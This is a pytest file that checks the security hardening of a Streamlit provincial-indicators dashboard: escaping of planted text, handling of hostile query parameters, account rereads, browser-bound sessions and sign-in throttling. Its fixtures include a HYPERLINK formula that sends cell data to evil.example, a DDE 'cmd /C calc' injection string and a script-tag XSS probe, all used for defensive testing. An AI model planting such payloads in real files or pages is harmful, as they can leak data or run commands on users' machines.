"""The hardening of issue 12 as the pages show it (AppTest): hostile text planted in every field that comes from
data reaches every page as plain text; hostile links (query parameters) fall back to defaults; accounts are re-read
on every rerun; a sign-in is bound to its browser; the users form changes only what changed; confirm commits only
what was previewed; a damaged database is a message. Issue 26: on screen a table shows its text exactly (the
formula escape is in downloads only), and a typed source reads as it was typed."""

import os
import re

import pytest

from indicators.domain.plain import md
from indicators.storage import open_store
from tests.conftest import PASSWORD
from tests.test_app import app, open_page  # noqa: F401 - the fixture
from tests.test_hardening import HOSTILE, rendered
from tests.test_import_page import sign_in, users  # noqa: F401 - the fixture

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"x")'
MARKERS = ("evil.example", "CẢNH BÁO", "đậm", "host.example")


def plant(db: str) -> None:
    """Hostile text in every field that analysts, files, target sheets and users bring in."""
    store = open_store(db)
    store.connection.execute("UPDATE actual SET source = ?, note = ? WHERE indicator_code LIKE 'papi%' OR "
                             "indicator_code LIKE 'pci%'",
                [HOSTILE, HOSTILE])
    store.connection.execute("UPDATE import_batch SET source = ?, file_name = ?", [HOSTILE, FORMULA + " " + HOSTILE
                                                                                   + ".csv"])
    store.connection.execute("UPDATE national_value SET source = ?", [HOSTILE])
    store.connection.execute("UPDATE plan SET title = ?, source_file = ?", [HOSTILE, HOSTILE + ".pdf"])
    store.connection.execute("UPDATE target SET source_quote = ?, note = ?", [HOSTILE, HOSTILE])
    store.connection.execute("UPDATE task SET task = ?, lead_body = ?, partners = ?, product = ?",
                [HOSTILE, FORMULA, "+1+cmd|' /C calc'!A0", "@SUM(1+1)"])
    store.connection.execute("UPDATE app_user SET display_name = ?", [HOSTILE])
    store.close()
    from indicators.web import cache

    cache.clear_caches()  # a write that bypassed the engine moves no data version


def markdown_texts(at) -> list[str]:
    """Every text of the run that Streamlit renders as markdown: markdown and captions, alerts, metric labels
    and their help tooltips, expander labels, subheaders — in the page and in the sidebar."""
    texts = []
    for kind in ("markdown", "caption", "info", "warning", "error", "success", "subheader", "title", "header"):
        texts += [e.value for e in getattr(at, kind)]
    texts += [e.value for e in at.sidebar.markdown]
    for metric in at.metric:
        texts += [metric.label, metric.proto.help]
    texts += [e.label for e in at.expander]
    return [t for t in texts if isinstance(t, str)]


def tags(html: str) -> list[str]:
    return sorted(re.findall(r"<(\w+)", html))


def assert_plain(at) -> int:
    """No link, image or emphasis made from planted text; charts and tables hold it escaped. Returns how many
    places showed planted text (so a test knows it looked at something)."""
    seen = 0
    for text in markdown_texts(at):
        out = rendered(text)
        if any(m in text or m in out for m in MARKERS):  # escaped markdown shows the marker once rendered
            seen += 1
            assert not re.search(r"<(a|img)\b", out), text  # no label of ours holds a link or an image
            # the planted text adds no element: the tags are those of the same text with it replaced
            assert tags(out) == tags(rendered(text.replace(md(HOSTILE), "PLANTED"))), text
            assert ":red[" not in text and "https://evil" not in text and "www.evil" not in text, text
    for chart in at.get("plotly_chart"):
        spec = chart.proto.spec
        if any(m in spec for m in MARKERS):
            seen += 1
        assert "<a " not in spec and "<img" not in spec and "<b>đậm" not in spec
    for frame in at.dataframe:
        for column in frame.value.columns:
            for cell in frame.value[column]:
                if isinstance(cell, str):
                    seen += any(m in cell for m in MARKERS)
                    # on screen a cell is the text as stored: the spreadsheet escape belongs to downloads only
                    assert not re.match(r"'+[=+\-@\t\r]", cell), cell
    return seen


PAGES = [("pages/overview.py", {"province": "42@2025"}), ("pages/overview.py", {}),
         ("pages/profile.py", {"province": "42@2004"}), ("pages/profile.py", {"province": "42@2004", "tab": "targets"}),
         ("pages/compare.py", {}), ("pages/compare.py", {"tab": "gaps"}), ("pages/compare.py", {"tab": "ranks"}),
         ("pages/rankings.py", {"indicator": "papi_total"}), ("pages/rankings.py", {"view": "table"}),
         ("pages/rankings.py", {"view": "map"}), ("pages/plans.py", {}), ("pages/data.py", {}),
         ("pages/reports.py", {"province": "42@2004", "period": "2020"})]


@pytest.mark.slow  # every page × every hostile field
@pytest.mark.parametrize("page, params", PAGES)
def test_planted_text_reaches_every_page_as_plain_text(app, page, params):  # noqa: F811
    plant(os.environ["KPI_DB"])
    at = open_page(app, page, lang="en", **params)
    assert not at.exception
    seen = assert_plain(at)
    assert seen > 0 or params.get("tab") == "gaps"  # the gaps table holds no text from data


@pytest.mark.parametrize("tab", ["upload", "batches", "users"])
def test_planted_text_on_the_import_page_is_plain_text(users, tab):  # noqa: F811
    plant(os.environ["KPI_DB"])
    at = sign_in(open_page(users, "pages/imports.py", lang="en", tab=tab), "admin")
    assert not at.exception
    seen = assert_plain(at)
    assert seen > 0  # the sidebar's name, the batches' file names


def test_an_uploaded_file_name_and_its_cells_are_plain_text(users):  # noqa: F811
    at = sign_in(open_page(users, "pages/imports.py", lang="en"), "lan")
    quoted = '"' + FORMULA.replace('"', '""') + '"'
    source = '"' + HOSTILE.replace('"', '""') + '"'
    bad = f"province,indicator,period,value,source\nHà Tĩnh,sipas,2023,{quoted},{source}\n".encode()
    at.get("file_uploader")[0].set_value((HOSTILE + ".csv", bad, "text/csv"))
    at = at.run()
    assert not at.exception and assert_plain(at) > 0


# --- hostile links ------------------------------------------------------------------------------------------------

HOSTILE_VALUES = ["²", "①", "٨٥", "８５", "-1", "99999999999999999999", "2024-²", "²-2024", "2030-2020", "",
                  "[x](https://evil.example)", "<script>alert(1)</script>", "\x00", "NaN", "1e309", ",,,",
                  "42@2025,42@2025,42@2025,42@2025,42@2025,42@2025,42@2025", "🔥" * 40, "x" * 5000]
PARAMS = {"pages/overview.py": ["province", "year"],
          "pages/profile.py": ["province", "tab", "indicator", "papi_year"],
          "pages/compare.py": ["provinces", "indicators", "tab", "rank", "years"],
          "pages/rankings.py": ["indicator", "year", "province", "view"],
          "pages/plans.py": ["provinces", "families", "status", "deadline"],
          "pages/data.py": ["plan"], "pages/imports.py": ["tab"]}


QUIET = ("pages/data.py", "pages/imports.py")  # pages that drop a bad value without a notice repeating it


@pytest.mark.slow  # every page × every hostile parameter
@pytest.mark.parametrize("page", list(PARAMS))
def test_hostile_query_parameters_fall_back_to_defaults_without_an_exception(app, page):  # noqa: F811
    at = open_page(app, page)
    title = [t.value for t in at.title]  # the page as a link without parameters draws it
    assert title
    for value in HOSTILE_VALUES:
        params = {name: value for name in PARAMS[page]} | {"lang": value}
        if page == "pages/profile.py":
            params["tab"] = "papi" if value == "²" else value  # the PAPI tab reads papi_year
        for name, text in params.items():   # the page run once with the link's parameters, as a link runs it
            at.query_params[name] = text
        at = at.run()
        assert not at.exception, (page, value, at.exception)
        assert [t.value for t in at.title] == title, (page, value)  # the default page, in the default language
        seen = assert_plain(at)  # a notice that repeats a dropped value shows it as plain text
        if any(m in value for m in MARKERS) and page not in QUIET:
            assert seen > 0, (page, value, [w.value for w in at.warning])
        for name in list(at.query_params):
            del at.query_params[name]


def test_a_bad_year_in_a_link_says_so_and_shows_the_default(app):  # noqa: F811
    at = open_page(app, "pages/overview.py", lang="en", year="①")
    assert not at.exception
    assert any("①" in w.value and "not valid" in w.value for w in at.warning), [w.value for w in at.warning]


# --- accounts -----------------------------------------------------------------------------------------------------

def change_account(name: str, **changes) -> None:
    from indicators.services.auth import User, set_user

    store = open_store(os.environ["KPI_DB"])
    set_user(store, User("admin", "admin", "admin"), name, **changes)
    store.close()


def test_a_demoted_admin_loses_the_admin_tabs_at_the_next_rerun(users):  # noqa: F811
    from indicators.services.auth import add_user

    store = open_store(os.environ["KPI_DB"])
    from indicators.services.auth import User

    add_user(store, User("admin", "admin", "admin"), "boss", PASSWORD, "admin")
    store.close()
    at = sign_in(open_page(users, "pages/imports.py", lang="en", tab="backup"), "boss")
    assert any(b.key == "make_backup" for b in at.button)
    # the server's own connection, as another admin's session would write
    from indicators.services.auth import User, set_user
    from indicators.web import ui

    set_user(ui.get_store(), User("admin", "admin", "admin"), "boss", role="analyst")
    at = at.run()
    assert not at.exception
    assert not any(b.key == "make_backup" for b in at.button)
    assert "analyst" in at.sidebar.markdown[0].value


def test_a_disabled_reader_stops_reading_at_the_next_rerun(users, monkeypatch):  # noqa: F811
    monkeypatch.setenv("KPI_SIGN_IN_TO_READ", "1")
    at = sign_in(open_page(users, "pages/overview.py", lang="en"), "viewer")
    assert at.get("plotly_chart")
    from indicators.services.auth import User, set_user
    from indicators.web import ui

    set_user(ui.get_store(), User("admin", "admin", "admin"), "viewer", disabled=True)
    at = at.run()
    assert not at.exception and not at.get("plotly_chart")
    assert any("disabled" in w.value for w in at.warning)


def test_a_session_reached_from_another_browser_is_signed_out(users, monkeypatch):  # noqa: F811
    """The sign-in is bound to the browser's XSRF token: a connection without it (one that named the session
    id found in an upload URL) finds the session signed out."""
    from indicators.web import signin

    monkeypatch.setattr(signin, "browser_token", lambda: "token of the analyst's browser")
    at = sign_in(open_page(users, "pages/imports.py", lang="en"), "lan")
    assert at.get("file_uploader")
    monkeypatch.setattr(signin, "browser_token", lambda: None)  # the attacker's connection
    at = at.run()
    assert not at.get("file_uploader")
    assert any("does not come from the browser" in w.value for w in at.warning)


def test_saving_the_users_form_changes_only_what_the_admin_changed(users):  # noqa: F811
    at = sign_in(open_page(users, "pages/imports.py", lang="en", tab="users"), "admin")
    at = at.selectbox(key="change_name").select("lan").run()
    at = at.get("form_submit_button")[1].click().run()  # saved untouched
    assert not at.exception
    from indicators.web import ui

    roles = ui.get_store().query("SELECT name, role, disabled FROM app_user").set_index("name")
    assert roles.loc["lan"].role == "analyst" and roles.loc["admin"].role == "admin"
    at = at.selectbox(key="change_name").select("lan").run()
    at.checkbox(key="change_disabled_lan").check()
    at = at.get("form_submit_button")[1].click().run()
    roles = ui.get_store().query("SELECT name, role, disabled FROM app_user").set_index("name")
    assert roles.loc["lan"].role == "analyst" and bool(roles.loc["lan"].disabled)


def test_sign_in_failures_carry_over_to_a_new_session(users):  # noqa: F811
    at = open_page(users, "pages/imports.py", lang="en")
    for _ in range(5):
        at.text_input(key="sign_in_name").input("lan")
        at.text_input(key="sign_in_password").input("wrong password!")
        at = at.get("form_submit_button")[0].click().run()
    from streamlit.testing.v1 import AppTest

    from tests.conftest import REPO

    fresh = AppTest.from_file(str(REPO / "app.py"), default_timeout=60)  # a new websocket session
    at = sign_in(open_page(fresh, "pages/imports.py", lang="en"), "lan")
    assert "Too many failures" in at.error[0].value and not at.get("file_uploader")
    from indicators.web import ui

    log = ui.get_store().query("SELECT outcome FROM audit_event WHERE name = 'lan' ORDER BY id")
    assert log.outcome.tolist() == ["checking", "failed"] * 5 + ["throttled"]


def test_confirm_commits_only_what_was_previewed(users):  # noqa: F811
    from indicators import imports
    from indicators.services.auth import User
    from indicators.web import cache, ui

    def write(value: int, who: str) -> None:
        ds = cache.get_dataset()
        content = f"province,indicator,period,value,source\nHà Tĩnh,sipas,2023,{value},BC {value}\n".encode()
        result = imports.preview(ui.get_store(), "x.csv", content, imports.Context(ds.registry, ds.indicators))
        imports.commit(ui.get_store(), result, User(who, who, "analyst"), replace=True)

    at = sign_in(open_page(users, "pages/imports.py", lang="en"), "lan")
    write(10, "minh")
    at.get("file_uploader")[0].set_value(("mine.csv", b"province,indicator,period,value,source\n"
                                                      b"H\xc3\xa0 T\xc4\xa9nh,sipas,2023,20,BC 20\n", "text/csv"))
    at = at.run()
    assert {m.label: m.value for m in at.metric}["To change"] == "1"
    write(15, "minh")  # another analyst, meanwhile
    at = at.checkbox(key="replace").check().run()
    at = at.button(key="commit").click().run()
    assert not at.exception
    assert "changed since your preview" in at.error[0].value
    stored = ui.get_store().scalar("SELECT value FROM actual WHERE province_code = '42' AND indicator_code = 'sipas'"
                                   " AND period = '2023' AND province_valid_from = DATE '2004-01-01'")
    assert stored == 15


def test_a_damaged_database_is_a_message_not_a_traceback(app, tmp_path, monkeypatch):  # noqa: F811
    damaged = tmp_path / "damaged.duckdb"
    damaged.write_bytes(b"\x00garbage" * 10_000)
    working = os.environ["KPI_DB"]     # the test's own copy (the app fixture's); never the checkout's default
    monkeypatch.setenv("KPI_DB", str(damaged))
    from indicators.web import ui

    ui.get_store.clear()
    try:
        at = open_page(app, "pages/overview.py", lang="en")
        assert not at.exception
        # an anonymous visitor reads only that the database is unavailable (issue 25); an administrator signed
        # in reads the cause (tests/test_attacks_postgres.py)
        assert "database is unavailable" in at.error[0].value and "damaged" not in at.error[0].value
    finally:   # back to the test's own database (monkeypatch.undo() also undid the fixture's KPI_DB: the default)
        monkeypatch.setenv("KPI_DB", working)
        ui.get_store.clear()


def test_the_config_shows_no_error_details():
    from tests.conftest import REPO

    config = (REPO / ".streamlit" / "config.toml").read_text()
    assert re.search(r'^showErrorDetails = "none"$', config, re.M)


def test_the_config_turns_off_the_tables_own_download():
    """A table's toolbar would download its cells unescaped: it is off, the app's own escaped CSV is offered."""
    from tests.conftest import REPO

    config = (REPO / ".streamlit" / "config.toml").read_text()
    assert re.search(r"^disableDataExport = true$", config, re.M)


# --- issue 26: the text on screen is the text as stored ----------------------------------------------------------

def test_the_reports_page_shows_signed_changes_without_an_apostrophe(app):  # noqa: F811
    from datetime import date

    from indicators.reports.word import index_rows
    from indicators.web import cache

    at = open_page(app, "pages/reports.py", province="42@2004", period="2020")
    assert not at.exception
    content = cache.report_contents(("42", date(2004, 1, 1)), "2020", date.today())
    expected = index_rows(content, "vi")
    indices = next(f.value for f in at.dataframe if "Thay đổi" in f.value.columns and len(f.value) == len(expected))
    changes = list(indices["Thay đổi"])
    assert changes == [row[4] for row in expected]
    assert any(c.startswith(("+", "-")) for c in changes), changes        # a signed change is among them
    assert not any(c.startswith("'") for c in changes)


def test_a_formula_like_quote_is_shown_exactly_on_the_data_page(app):  # noqa: F811
    store = open_store(os.environ["KPI_DB"])
    store.connection.execute("UPDATE target SET source_quote = ?", [FORMULA])
    store.close()
    from indicators.web import cache

    cache.clear_caches()
    at = open_page(app, "pages/data.py")
    assert not at.exception
    quotes = next(f.value for f in at.dataframe if "Trích dẫn nguyên văn" in f.value.columns)["Trích dẫn nguyên văn"]
    assert len(quotes) and set(quotes) == {FORMULA}


TYPED = "-Báo cáo *số 12*/BC-UBND ngày 5/1/2024 [bản 2] của UBND tỉnh"


def test_a_typed_source_reads_as_typed_in_the_preview_and_the_batches(users):  # noqa: F811
    """The preview names the indicator and writes the figure in the page's format; the source typed on the page
    is shown exactly as typed in the preview and in the batches (markdown marks, a leading minus, case)."""
    from indicators.i18n import label

    at = sign_in(open_page(users, "pages/imports.py"), "lan")
    at.text_input(key="batch_source").input(TYPED)
    csv = "province,indicator,period,value\nHà Tĩnh,satisfaction_procedures_pct,2024,85.5\n".encode()
    at.get("file_uploader")[0].set_value(("sipas.csv", csv, "text/csv"))
    at = at.run()
    assert not at.exception and not at.error
    preview = at.dataframe[0].value
    assert list(preview[label("col_source", "vi")]) == [TYPED]
    assert list(preview[label("col_new", "vi")]) == ["85,5"]
    from indicators.web import cache

    name = cache.get_dataset().indicator_names("vi")["satisfaction_procedures_pct"]
    assert list(preview[label("indicator", "vi")]) == [name] and name != "satisfaction_procedures_pct"
    at = at.button(key="commit").click().run()
    assert not at.exception
    at = open_page(at, "pages/imports.py", tab="batches")
    batches = at.dataframe[0].value
    assert batches[label("col_source", "vi")].iloc[0] == TYPED
    assert batches[label("col_batch_kind", "vi")].iloc[0] == "Số liệu thực hiện"
    assert batches[label("col_channel", "vi")].iloc[0] == "Tải lên" and "source_kind" not in batches.columns


def test_the_locks_table_names_the_province(users):  # noqa: F811
    at = sign_in(open_page(users, "pages/imports.py", lang="vi", tab="locks"), "admin")
    at.selectbox(key="lock_province").set_value("42@2004")
    at.text_input(key="lock_period").input("2020")
    at = at.get("form_submit_button")[0].click().run()
    assert not at.exception and not at.error
    locks = at.dataframe[0].value
    assert list(locks["Tỉnh"]) == ["Hà Tĩnh (đến 30/06/2025)"] and "province_code" not in locks.columns
    assert list(locks["Kỳ"]) == ["2020"]
